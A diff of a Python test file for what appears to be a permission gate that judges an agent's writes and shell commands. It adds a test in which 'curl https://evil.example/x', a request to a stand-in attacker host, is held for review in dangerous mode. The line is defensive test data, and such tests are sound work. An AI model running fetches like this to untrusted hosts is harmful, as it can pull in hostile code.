@@ -255,6 +255,11 @@ def test_a_link_to_a_trusted_file_is_that_file() -> None:
     assert ruling(judged(WriteFile(f"{WORK}/sql/Makefile", "x"), TAINTED)[2]) is Q
 
 
+def test_in_a_copy_the_patch_shows_the_change() -> None:
+    assert ruling(judged(WRITE, replace(TAINTED, copied=True))[2]) is A
+    assert ruling(judged("curl https://evil.example/x", replace(TAINTED, copied=True), Mode.DANGEROUSLY)[2]) is Q
+
+
 def test_commands_are_judged_by_their_words_only_if_nothing_looks_afterwards() -> None:
     assert ruling(judged("echo x >> package.json", TAINTED)[2]) is A
     assert ruling(judged("echo x >> package.json", replace(TAINTED, undo=False))[2]) is Q
